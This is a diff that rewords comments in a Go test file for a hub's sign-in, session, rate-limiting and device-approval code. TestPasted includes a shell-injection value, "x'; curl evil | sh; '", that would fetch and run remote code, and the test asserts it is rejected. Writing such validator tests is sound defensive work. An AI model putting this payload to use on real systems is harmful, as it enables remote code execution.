@@ -21,8 +21,8 @@ import (
 	"github.com/kith/kith/internal/fleet"
 )
 
-// inProcess lets a browser speak to the site without a network, so that it can
-// do so in false time.
+// inProcess lets a browser use the site without a network, so that it works in false
+// time.
 func (tn *town) inProcess(from string) func(path string, fields ...string) seen {
 	return tn.inProcessAs(from, "")
 }
@@ -44,11 +44,11 @@ func (tn *town) inProcessAs(from, cookie string) func(path string, fields ...str
 	}
 }
 
-// TestRefusedSpendsNothing: what this hub does not do is refused before it counts against an
-// address, so a page or a program that tries it does not shut out those who sign in by another
-// way.
+// TestRefusedSpendsNothing checks that requests for disabled features are refused before
+// they count against an address. A page or a program that tries them does not prevent
+// others from signing in another way.
 func TestRefusedSpendsNothing(t *testing.T) {
-	tn := newTown(t, func(c *Config) { c.Base = "http://192.0.2.80" }) // no passkey is bound to an address
+	tn := newTown(t, func(c *Config) { c.Base = "http://192.0.2.80" }) // passkeys cannot be bound to an IP address
 	tn.as("ada").post("/account/password", "password", aPassword).goes(t, "/account")
 	tn.site.limits = newLimits()
 	one := tn.inProcess("192.0.2.1")
@@ -61,13 +61,13 @@ func TestRefusedSpendsNothing(t *testing.T) {
 	one("/signin", "name", "ada", "password", aPassword).goes(t, "/")
 }
 
-// TestSignInLimits: guesses are held back by address, and by address and name
-// together, and what is right works again once their time has come.
+// TestSignInLimits checks that guesses are limited by address, and by address and name,
+// and that correct passwords work again afterwards.
 func TestSignInLimits(t *testing.T) {
 	tn := newTown(t, nil)
 	tn.as("ada").post("/account/password", "password", aPassword).goes(t, "/account")
 	synctest.Test(t, func(t *testing.T) {
-		tn.site.limits, tn.site.Passwords = newLimits(), api.New(api.Config{}).Passwords // of this bubble
+		tn.site.limits, tn.site.Passwords = newLimits(), api.New(api.Config{}).Passwords // created in this bubble
 		one := tn.inProcess("192.0.2.1")
 		for i := range 10 {
 			if got := one("/signin", "name", "ada", "password", "wrong"); got.status != 403 {
@@ -85,8 +85,8 @@ func TestSignInLimits(t *testing.T) {
 		time.Sleep(30 * time.Second)
 		one("/signin", "name", "ada", "password", aPassword).goes(t, "/")
 
-		// By address, whatever the name; of IPv6, by the network. Recoveries are
-		// counted apart, in the same way.
+		// By address, with any name; for IPv6, by network. Recoveries are counted
+		// separately, in the same way.
 		guess := tn.inProcess("[2001:db8::1]")
 		for i := range 20 {
 			guess("/signin", "name", strings.Repeat("x", i+1), "password", "wrong").want(t, 403)
@@ -106,9 +106,9 @@ func TestSignInLimits(t *testing.T) {
 	})
 }
 
-// TestGuessesDoNotLockOut: during guesses at a member's password from elsewhere, the
-// member can sign in with a browser used before, recover the account and type device
-// codes; and sign in with a new browser while the guesses come from few addresses.
+// TestGuessesDoNotLockOut checks that while others guess a member's password, the member
+// can sign in with a known browser, recover the account and type device codes. The member
+// can also sign in with a new browser if the guesses are from few addresses.
 func TestGuessesDoNotLockOut(t *testing.T) {
 	tn := newTown(t, nil)
 	first := tn.as("ada").post("/account/password", "password", aPassword)
@@ -116,7 +116,7 @@ func TestGuessesDoNotLockOut(t *testing.T) {
 	known := setCookie(t, first.header, "kith-browser")
 	codes := strings.Fields(textOf(t, tn.as("ada").post("/account/codes", "old", aPassword).want(t, 200), "codes"))
 	synctest.Test(t, func(t *testing.T) {
-		tn.site.limits, tn.site.Passwords = newLimits(), api.New(api.Config{}).Passwords // of this bubble
+		tn.site.limits, tn.site.Passwords = newLimits(), api.New(api.Config{}).Passwords // created in this bubble
 		attacker := tn.inProcess("198.51.100.1")
 		every, from := 100*time.Millisecond, 2000
 		if testing.Short() {
@@ -128,9 +128,10 @@ func TestGuessesDoNotLockOut(t *testing.T) {
 			}
 			time.Sleep(every)
 		}
-		tn.inProcess("192.0.2.1")("/signin", "name", "ada", "password", aPassword).goes(t, "/") // a browser never seen
+		tn.inProcess("192.0.2.1")("/signin", "name", "ada", "password", aPassword).goes(t, "/") // a new browser
 
-		// From everywhere: what guesses the name has is bounded, for new browsers alone.
+		// Guesses from many addresses are limited for the name, but only for new
+		// browsers.
 		passed := 0
 		for i := range from {
 			if one := tn.inProcess(fmt.Sprintf("203.0.%d.%d", 1+i/200, 1+i%200)); one("/signin", "name", "ada", "password", "guess").status == 403 {
@@ -143,7 +144,7 @@ func TestGuessesDoNotLockOut(t *testing.T) {
 		tn.inProcess("192.0.2.1")("/signin", "name", "ada", "password", aPassword).want(t, 429)
 		signed := tn.inProcessAs("192.0.2.1", known)("/signin", "name", "ada", "password", aPassword)
 		signed.goes(t, "/")
-		tn.inProcessAs("192.0.2.2", known)("/signin", "name", "bob", "password", "wrong").want(t, 403) // as any other
+		tn.inProcessAs("192.0.2.2", known)("/signin", "name", "bob", "password", "wrong").want(t, 403) // like any other browser
 		if got := tn.inProcessAs("192.0.2.3", strings.Replace(known, ".", "0.", 1))("/signin", "name", "ada", "password", aPassword); got.status != 429 {
 			t.Errorf("with a cookie of one's own making: %d", got.status)
 		}
@@ -151,8 +152,8 @@ func TestGuessesDoNotLockOut(t *testing.T) {
 		tn.inProcessAs("192.0.2.1", session)("/device", "code", "BCDF-GHJK").want(t, 404)
 		tn.inProcess("192.0.2.1")("/recover", "name", "ada", "code", codes[0], "password", aPassword+"!").goes(t, "/account")
 
-		// Another password, another browser cookie; and a known browser has its own
-		// allowance, not none.
+		// A new password invalidates the cookie. A known browser has its own limit, not
+		// none.
 		tn.inProcessAs("192.0.2.1", known)("/signin", "name", "ada", "password", aPassword+"!").want(t, 429)
 		fresh := setCookie(t, tn.inProcessAs("192.0.2.1", known)("/recover", "name", "ada", "code", codes[1], "password", aPassword).header, "kith-browser")
 		for range 10 {
@@ -167,7 +168,7 @@ func TestGuessesDoNotLockOut(t *testing.T) {
 	})
 }
 
-// session is the cookie of a browser's session.
+// session returns the cookie of a browser's session.
 func (b *browser) session() *http.Cookie {
 	for _, c := range b.client.Jar.Cookies(must1(url.Parse(b.web.URL))) {
 		if c.Name == "kith" {
@@ -177,7 +178,8 @@ func (b *browser) session() *http.Cookie {
 	return new(http.Cookie)
 }
 
-// setCookie is the cookie of that name that an answer sets, as a browser sends it.
+// setCookie returns the cookie with that name from a response, in the form in which a
+// browser sends it.
 func setCookie(t *testing.T, h http.Header, name string) string {
 	t.Helper()
 	for _, c := range (&http.Response{Header: h}).Cookies() {
@@ -192,8 +194,8 @@ func setCookie(t *testing.T, h http.Header, name string) string {
 	return ""
 }
 
-// TestOneMessage: a wrong name, a wrong password, a member without one and one
-// who is disabled get the same answer.
+// TestOneMessage checks that a wrong name, a wrong password, a member without one, and a
+// disabled member get the same response.
 func TestOneMessage(t *testing.T) {
 	tn := newTown(t, nil)
 	tn.as("ada").post("/account/password", "password", aPassword).goes(t, "/account")
@@ -212,7 +214,7 @@ func TestOneMessage(t *testing.T) {
 	}
 }
 
-// Where sign-up is closed, an invite promises no account.
+// If sign-up is closed, an invite does not promise an account.
 func TestInviteOnAClosedHub(t *testing.T) {
 	ada := newTown(t, func(c *Config) { c.SignUp = SignUpClosed }).as("ada")
 	ada.post("/sharing/invite", "uses", "1", "expires", "1d").want(t, 200, "A member of this hub who accepts it may then use", "Sign-up is closed: who has no account")
@@ -282,7 +284,7 @@ func testSessionsEnd(t *testing.T, tn *town) {
 	one.post("/sessions/end", "all", "yes").goes(t, "/sessions")
 	three.get("/account").goes(t, "/signin?next=%2Faccount")
 
-	// A token taken at one sign-in is nothing after the next, or after sign-out.
+	// The token of one sign-in is void after the next sign-in, and after the sign-out.
 	before := one.session().Value
 	one.post("/signin", "name", "ada", "password", aPassword).goes(t, "/")
 	if after := one.session().Value; after == before {
@@ -295,7 +297,7 @@ func testSessionsEnd(t *testing.T, tn *town) {
 	one.post("/signout").goes(t, "/signin")
 	one.get("/account").goes(t, "/signin?next=%2Faccount")
 
-	// A member who is disabled is out at once, and a password change ends the rest.
+	// Disabling a member ends all sessions at once, and a new password ends all others.
 	two.post("/signin", "name", "ada", "password", aPassword).goes(t, "/")
 	three.post("/signin", "name", "ada", "password", aPassword).goes(t, "/")
 	two.post("/account/password", "old", "wrong", "password", "another good one").want(t, 403, "current password")
@@ -306,7 +308,7 @@ func testSessionsEnd(t *testing.T, tn *town) {
 	two.get("/account").goes(t, "/signin?next=%2Faccount")
 }
 
-// TestSessionsAge: a session ends 12 hours after it was last seen, and after two
+// TestSessionsAge checks that a session ends 12 hours after its last use, and after two
 // weeks in any case.
 func TestSessionsAge(t *testing.T) {
 	tn := newTown(t, nil)
@@ -320,7 +322,7 @@ func TestSessionsAge(t *testing.T) {
 			tn.site.ServeHTTP(w, r)
 			return w.Code
 		}
-		time.Sleep(time.Until(time.Date(2026, 11, 21, 23, 0, 0, 0, time.UTC))) // the link was made in true time
+		time.Sleep(time.Until(time.Date(2026, 11, 21, 23, 0, 0, 0, time.UTC))) // the link was created in real time
 		check(t, tn.db.CreateLink(t.Context(), account.Link{Hash: must1(credential.Parse(strings.TrimPrefix(link, "/welcome/"))).Hash(), MemberID: tn.members["ada"].ID, Created: time.Now(), Expires: time.Now().Add(time.Hour)}))
 		in := tn.inProcess("192.0.2.1")("/welcome", "link", strings.TrimPrefix(link, "/welcome/"))
 		in.goes(t, "/")
@@ -363,7 +365,7 @@ func testRecovery(t *testing.T, tn *town) {
 	tn.browser().post("/signin", "name", "ada", "password", "a new password").goes(t, "/")
 }
 
-// device is one that asks for approval.
+// device is a device that requests approval.
 type device struct {
 	*town
 	code, user string
@@ -386,7 +388,8 @@ func (tn *town) ask4(form ...string) *device {
 	return &device{tn, got.DeviceCode, got.UserCode}
 }
 
-// poll asks once, as if its time had come: the error's code, or the answer.
+// poll polls once, as if the interval had passed, and returns the error's code, or the
+// answer.
 func (d *device) poll() (string, granted) {
 	d.t.Helper()
 	d.site.limits.polls.Give(d.pollKey(), time.Now())
@@ -417,8 +420,8 @@ func (d *device) want(code string) granted {
 	return answer
 }
 
-// TestMadeUpCodes: codes that are not known, with the right checksum, are looked up a limited
-// number of times for an address; known ones do not count.
+// TestMadeUpCodes checks that unknown codes with valid checksums are looked up a limited
+// number of times per address, and that known codes do not count.
 func TestMadeUpCodes(t *testing.T) {
 	tn := newTown(t, nil)
 	tn.site.limits.polls.Every = 0
@@ -434,7 +437,7 @@ func TestMadeUpCodes(t *testing.T) {
 		"links":   {func(code string) seen { return tn.browser().get("/welcome/" + code) }, credential.LinkCode, "tried too often"},
 		"invites": {func(code string) seen { return tn.browser().get("/invite/" + code) }, credential.InviteCode, "tried too often"},
 	} {
-		tn.site.limits.codes = &throttle{Every: time.Hour, Burst: 30} // however slow the test is
+		tn.site.limits.codes = &throttle{Every: time.Hour, Burst: 30} // independent of the test's speed
 		d := tn.ask4("scope", "machine", "name", "laptop")
 		for range 50 {
 			d.want("authorization_pending")
@@ -454,14 +457,14 @@ func TestMadeUpCodes(t *testing.T) {
 func TestDeviceSignIn(t *testing.T) { onEachStore(t, testDeviceSignIn) }
 
 func testDeviceSignIn(t *testing.T, tn *town) {
-	tn.site.limits.polls.Every = time.Hour // however slow the test is, only d.poll comes in time
+	tn.site.limits.polls.Every = time.Hour // independent of the test's speed: only d.poll is in time
 	ada, bob := tn.as("ada"), tn.as("bob")
 	d := tn.ask4("scope", "machine", "name", "laptop")
 	d.want("authorization_pending")
 	if got := tn.browser().post("/device/token", "grant_type", grantType, "device_code", d.code); !strings.Contains(got.body, "slow_down") {
 		t.Errorf("polled at once: %s", got.body)
 	}
-	// The page says what asks, and decides nothing by itself.
+	// The page shows which device asks, and decides nothing.
 	ada.post("/device/decide", "code", d.user, "decision", "approve").want(t, 404, "type the code at <code>/device</code> first")
 	ada.post("/device", "code", strings.ToLower(strings.ReplaceAll(d.user, "-", " "))).want(t, 200, "laptop", "127.0.0.1", "Go-http-client", d.user, "Does your device show this code")
 	d.want("authorization_pending")
@@ -472,7 +475,7 @@ func testDeviceSignIn(t *testing.T, tn *town) {
 		who.post("/device/decide", "code", d.user, "decision", "approve").want(t, 404)
 	}
 
-	// Of many who redeem it at once, one gets the secret.
+	// Of many concurrent polls one gets the secret.
 	var won atomic.Int64
 	var all sync.WaitGroup
 	for range 8 {
@@ -493,7 +496,7 @@ func testDeviceSignIn(t *testing.T, tn *town) {
 	}
 	all.Wait()
 	if won.Load() == 0 {
-		d.want("") // every one of them came too soon
+		d.want("") // all of them came too soon
 		won.Add(1)
 	}
 	if won.Load() != 1 {
@@ -504,7 +507,7 @@ func testDeviceSignIn(t *testing.T, tn *town) {
 	if len(machines) != 2 || machines[1].Name != "laptop" {
 		t.Errorf("machines are %+v", machines)
 	}
-	// A name that is taken gets a word behind it.
+	// If the name is taken, a word is appended.
 	again := tn.ask4("scope", "machine", "name", "laptop")
 	ada.post("/device", "code", again.user).want(t, 200)
 	ada.post("/device/decide", "code", again.user, "decision", "approve").want(t, 200)
@@ -512,14 +515,14 @@ func testDeviceSignIn(t *testing.T, tn *town) {
 		t.Errorf("told %+v", got)
 	}
 
-	// Denied. The machine gave itself a name of two scripts, which no page shows.
+	// The request is denied. The machine's name mixes two scripts, so no page shows it.
 	denied := tn.ask4("scope", "machine", "name", "lаptоp")
 	if page := bob.post("/device", "code", denied.user).want(t, 200, "machine"); strings.Contains(page.body, "lаptоp") {
 		t.Error("a name that no machine may have is shown")
 	}
 	bob.post("/device/decide", "code", denied.user, "decision", "deny").want(t, 200, "Denied")
 	denied.want("access_denied")
-	// A key.
+	// A request for a key.
 	key := tn.ask4("scope", "key", "name", "editor", "reach", "own")
 	bob.post("/device", "code", key.user).want(t, 200, "an API key called <strong>editor</strong> that reaches your machines")
 	bob.post("/device/decide", "code", key.user, "decision", "approve").want(t, 200, "shown there")
@@ -528,13 +531,13 @@ func testDeviceSignIn(t *testing.T, tn *town) {
 	if err != nil || member.Name != "bob" || stored.Reach != account.ReachOwn || stored.Name != "editor" || stored.ID != got.ID {
 		t.Errorf("made %+v of %s, %v", stored, member.Name, err)
 	}
-	// A member who is disabled meanwhile gets nothing.
+	// If the member is disabled in between, the device gets nothing.
 	late := tn.ask4("scope", "key", "name", "late")
 	bob.post("/device", "code", late.user).want(t, 200)
 	bob.post("/device/decide", "code", late.user, "decision", "approve").want(t, 200)
 	check(t, tn.db.SetMemberDisabled(t.Context(), tn.members["bob"].ID, true))
 	late.want("invalid_grant")
-	// Nonsense.
+	// Invalid requests.
 	for _, form := range [][]string{{"client_id", "kith", "scope", "all"}, {"scope", "machine"}, {"client_id", "kith", "scope", "key", "name", "<b>"}, {"client_id", "kith", "scope", "key", "name", "x", "reach", "universe"}} {
 		tn.browser().post("/device/code", form...).want(t, 400, `"error":"invalid_`)
 	}
@@ -543,8 +546,8 @@ func testDeviceSignIn(t *testing.T, tn *town) {
 	tn.browser().get("/device/code").want(t, 405)
 }
 
-// TestDevicePhishing: a link with a code fills nothing in, and a code that was typed
-// approves nothing in another session, nor another code.
+// TestDevicePhishing checks that a link with a code does not fill it in, and that a typed
+// code approves neither in another session nor another code.
 func TestDevicePhishing(t *testing.T) {
 	tn := newTown(t, nil)
 	ada, others := tn.as("ada"), tn.as("ada")
@@ -563,8 +566,8 @@ func TestDevicePhishing(t *testing.T) {
 	mine.want("")
 }
 
-// TestDeviceGuesses: wrong codes are few, by member and by address, and right ones
-// cost nothing.
+// TestDeviceGuesses checks that wrong codes are limited, by member and by address, and
+// that correct ones do not count.
 func TestDeviceGuesses(t *testing.T) {
 	tn := newTown(t, nil)
 	ada := tn.as("ada")
@@ -575,14 +578,15 @@ func TestDeviceGuesses(t *testing.T) {
 	for range 5 {
 		ada.post("/device", "code", credential.UserCode()).want(t, 404)
 	}
-	for range 30 { // what is refused does not count for the address
+	for range 30 { // refused requests do not count for the address
 		ada.post("/device", "code", d.user).want(t, 429)
 	}
 	ada.post("/device/decide", "code", d.user, "decision", "approve").want(t, 429)
 	tn.as("bob").post("/device", "code", d.user).want(t, 200)
 }
 
-// TestDeviceExpires: after ten minutes it cannot be approved, and it says so.
+// TestDeviceExpires checks that a request cannot be approved after ten minutes, and that
+// the page shows that.
 func TestDeviceExpires(t *testing.T) {
 	tn := newTown(t, nil)
 	code, now := credential.Mint(credential.DeviceCode, "home"), time.Now().UTC()
@@ -606,7 +610,7 @@ func TestTestKey(t *testing.T) {
 	}
 }
 
-// TestPasted: a value in lines to paste cannot end a quote in them.
+// TestPasted checks that a value in lines to paste cannot end a quoted string.
 func TestPasted(t *testing.T) {
 	for id, want := range map[fleet.ModelID]bool{"llama3:8b": true, "org/Model-1.5_q4": true, "": false, "a b": false, "x'; curl evil | sh; '": false, `a"b`: false, "a$(b)": false, "a\\b": false, "é": false} {
 		if pastes(id) != want {
@@ -630,7 +634,7 @@ func TestAddressOf(t *testing.T) {
 	} {
 		r := httptest.NewRequest("GET", "/", nil)
 		r.RemoteAddr = remote
-		r.Header.Set("X-Forwarded-For", "198.51.100.1") // the hub alone reads that
+		r.Header.Set("X-Forwarded-For", "198.51.100.1") // only the hub reads this header
 		if got := addressOf(r); got != want {
 			t.Errorf("%s: %s, want %s", remote, got, want)
 		}
